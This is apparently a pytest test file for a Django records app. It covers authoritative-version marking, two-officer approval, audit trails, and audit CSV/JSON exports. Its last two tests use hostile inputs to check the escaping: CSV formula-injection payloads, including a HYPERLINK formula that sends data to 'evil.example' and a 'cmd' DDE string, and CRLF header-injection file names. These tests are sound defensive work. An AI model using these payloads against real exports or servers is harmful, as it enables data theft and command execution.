"""Records officers mark the authoritative version with a reason; with approval on, a second officer must agree."""

import pytest
from django.core.exceptions import PermissionDenied
from django.urls import reverse

from collections_app.models import AuditEvent, AuthorityRequest, Version
from records.services import (
    AuthorityError,
    authority_request_approve,
    authority_request_reject,
    item_mark_authoritative,
)
from tests.factories import ItemFactory, SourceFactory, VersionFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def item_with_two_versions():
    source = SourceFactory(name="Lands Registry", trust_priority=5)
    item = ItemFactory(identifier="LR-1962-001")
    first, second = VersionFactory.create_batch(2, item=item, source=source)
    item.authoritative_version = first
    item.save()
    return item, first, second


def test_marking_authoritative_records_previous_version_and_reason(role_user, item_with_two_versions):
    item, first, second = item_with_two_versions
    officer = role_user("records_officer")
    outcome = item_mark_authoritative(item_id=item.pk, version_id=second.pk, actor=officer, reason="Signed original")
    assert outcome.applied
    item.refresh_from_db()
    assert item.authoritative_version == second
    event = AuditEvent.objects.get(action="item.mark_authoritative")
    assert event.actor == officer and event.reason == "Signed original"
    assert event.before["authoritative_version"]["id"] == first.pk
    assert event.after["authoritative_version"]["id"] == second.pk


def test_a_reason_is_required(role_user, item_with_two_versions):
    item, _first, second = item_with_two_versions
    with pytest.raises(AuthorityError, match="why"):
        item_mark_authoritative(item_id=item.pk, version_id=second.pk, actor=role_user("records_officer"), reason=" ")


def test_a_version_of_another_item_is_refused(role_user, item_with_two_versions):
    item, first, _second = item_with_two_versions
    other = ItemFactory()
    with pytest.raises(AuthorityError, match="does not belong"):
        item_mark_authoritative(item_id=other.pk, version_id=first.pk, actor=role_user("records_officer"), reason="r")


def test_a_curator_cannot_mark_authoritative_even_through_the_service(role_user, item_with_two_versions):
    item, _first, second = item_with_two_versions
    with pytest.raises(PermissionDenied):
        item_mark_authoritative(item_id=item.pk, version_id=second.pk, actor=role_user("curator"), reason="r")


def test_copies_kept_as_duplicates_follow_the_new_authoritative_version(role_user, item_with_two_versions):
    item, first, second = item_with_two_versions
    third = VersionFactory(item=item, source=first.source)
    Version.objects.filter(pk__in=[second.pk, third.pk]).update(duplicate_of=first)
    item_mark_authoritative(item_id=item.pk, version_id=second.pk, actor=role_user("records_officer"), reason="r")
    duplicate_of = dict(Version.objects.values_list("pk", "duplicate_of"))
    assert duplicate_of == {first.pk: second.pk, second.pk: None, third.pk: second.pk}


def test_with_approval_on_the_choice_waits_for_a_second_different_officer(settings, role_user, item_with_two_versions):
    settings.DUPFINDER_AUTHORITY_APPROVAL = True
    item, first, second = item_with_two_versions
    alice, bob = role_user("records_officer", "alice"), role_user("records_officer", "bob")
    outcome = item_mark_authoritative(item_id=item.pk, version_id=second.pk, actor=alice, reason="Registry copy")
    assert not outcome.applied
    item.refresh_from_db()
    assert item.authoritative_version == first
    with pytest.raises(AuthorityError, match="different records officer"):
        authority_request_approve(request_id=outcome.request.pk, actor=alice)
    with pytest.raises(AuthorityError, match="already waiting"):
        item_mark_authoritative(item_id=item.pk, version_id=second.pk, actor=bob, reason="again")
    authority_request_approve(request_id=outcome.request.pk, actor=bob, note="Checked the register")
    item.refresh_from_db()
    assert item.authoritative_version == second
    applied = AuditEvent.objects.get(action="item.mark_authoritative")
    assert applied.actor == bob and applied.reason == "Registry copy" and applied.after["requested_by"] == "alice"
    assert AuditEvent.objects.filter(action="item.authority_request", actor=alice).exists()
    with pytest.raises(AuthorityError, match="already decided"):
        authority_request_approve(request_id=outcome.request.pk, actor=bob)


def test_a_rejected_request_changes_nothing_and_needs_a_reason(settings, role_user, item_with_two_versions):
    settings.DUPFINDER_AUTHORITY_APPROVAL = True
    item, first, second = item_with_two_versions
    alice, bob = role_user("records_officer", "alice"), role_user("records_officer", "bob")
    request = item_mark_authoritative(item_id=item.pk, version_id=second.pk, actor=alice, reason="r").request
    with pytest.raises(AuthorityError):
        authority_request_reject(request_id=request.pk, actor=bob, note="")
    authority_request_reject(request_id=request.pk, actor=bob, note="Wrong scan")
    item.refresh_from_db()
    assert item.authoritative_version == first
    assert AuthorityRequest.objects.get().status == AuthorityRequest.Status.REJECTED
    assert AuditEvent.objects.get(action="item.authority_reject").reason == "Wrong scan"


def test_item_page_shows_versions_history_and_the_form_for_officers(client, role_user, item_with_two_versions):
    item, _first, second = item_with_two_versions
    officer = role_user("records_officer")
    client.force_login(officer)
    url = reverse("item-mark-authoritative", args=[item.pk])
    response = client.post(url, {"version": second.pk, "reason": "Original negative scan"}, follow=True)
    html = response.content.decode()
    assert "The version is now authoritative" in html
    assert "Original negative scan" in html and "item.mark_authoritative" in html
    assert "Lands Registry" in html and "Mark authoritative…" in html
    assert "<script>" not in html


def test_the_form_without_a_reason_changes_nothing(client, role_user, item_with_two_versions):
    item, first, second = item_with_two_versions
    client.force_login(role_user("records_officer"))
    response = client.post(reverse("item-mark-authoritative", args=[item.pk]), {"version": second.pk}, follow=True)
    assert "A written reason is required" in response.content.decode()
    item.refresh_from_db()
    assert item.authoritative_version == first


def test_merged_away_identifiers_redirect_to_the_surviving_item(client, role_user):
    survivor = ItemFactory(identifier="HKMA 1962/7")
    ItemFactory(identifier="DR-OLD", merged_into=survivor)
    client.force_login(role_user("viewer"))
    for identifier in ("DR-OLD", "HKMA 1962/7"):
        response = client.get(reverse("item-by-identifier", args=[identifier]))
        assert response.status_code == 302 and response.url == reverse("item-detail", args=[survivor.pk])
    assert client.get(reverse("item-by-identifier", args=["NOPE"])).status_code == 404


def test_a_viewer_sees_the_trail_but_no_form_and_the_page_cost_does_not_grow(
    client, role_user, item_with_two_versions, django_assert_max_num_queries
):
    item, first, _second = item_with_two_versions
    client.force_login(role_user("viewer"))
    with django_assert_max_num_queries(20):
        html = client.get(reverse("item-detail", args=[item.pk])).content.decode()
    assert "Mark authoritative…" not in html and "Export as CSV" in html
    VersionFactory.create_batch(10, item=item, source=first.source)
    with django_assert_max_num_queries(20):
        assert client.get(reverse("item-detail", args=[item.pk])).status_code == 200


def test_the_item_page_offers_approval_only_to_a_different_officer(settings, client, role_user, item_with_two_versions):
    settings.DUPFINDER_AUTHORITY_APPROVAL = True
    item, _first, second = item_with_two_versions
    alice, bob = role_user("records_officer", "alice"), role_user("records_officer", "bob")
    client.force_login(alice)
    url = reverse("item-mark-authoritative", args=[item.pk])
    html = client.post(url, {"version": second.pk, "reason": "Registry copy"}, follow=True).content.decode()
    assert "Waiting for approval" in html and "Registry copy" in html
    assert "A different records officer must approve your request." in html and ">Approve<" not in html
    client.force_login(bob)
    html = client.get(reverse("item-detail", args=[item.pk])).content.decode()
    assert ">Approve<" in html and "Turn down" in html


# --- the item's audit trail as a download -------------------------------------------------


def _audit_csv(client, item) -> list[dict]:
    import csv
    import io

    response = client.get(reverse("item-audit-csv", args=[item.pk]))
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "formula",
    ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "＝1+1"],
)
def test_the_audit_csv_never_hands_a_spreadsheet_a_formula_in_the_reason_or_the_actor(client, role_user, formula):
    from collections_app.services import audit_record

    item = ItemFactory(identifier="HKRS-7")
    officer = role_user("records_officer", username=formula[:150])
    audit_record(actor=officer, action="item.note", target=item, reason=formula)
    client.force_login(officer)
    (row,) = _audit_csv(client, item)
    assert row["reason"] == "'" + formula and row["actor"] == "'" + formula
    assert row["action"] == "item.note" and row["target"] == f"collections_app.item:{item.pk}"


@pytest.mark.parametrize("fmt", ["csv", "json"])
@pytest.mark.parametrize("identifier", ['HK"1"\r\nSet-Cookie: x=1', "HK\\1;\tfilename=evil.html", "香港-1962/01"])
def test_an_identifier_with_line_breaks_or_quotes_is_exported_under_a_safely_encoded_file_name(
    client, role_user, identifier, fmt
):
    from urllib.parse import quote

    from collections_app.models import Item

    item = ItemFactory()
    Item.objects.filter(pk=item.pk).update(identifier=identifier)  # stored before identifiers were checked
    client.force_login(role_user("viewer"))
    response = client.get(reverse(f"item-audit-{fmt}", args=[item.pk]))
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition and "Set-Cookie" not in response
    assert disposition.startswith('attachment; filename="audit-') and disposition.count('"') == 2
    assert disposition.endswith(f"; filename*=UTF-8''{quote(f'audit-{identifier}.{fmt}', safe='')}")
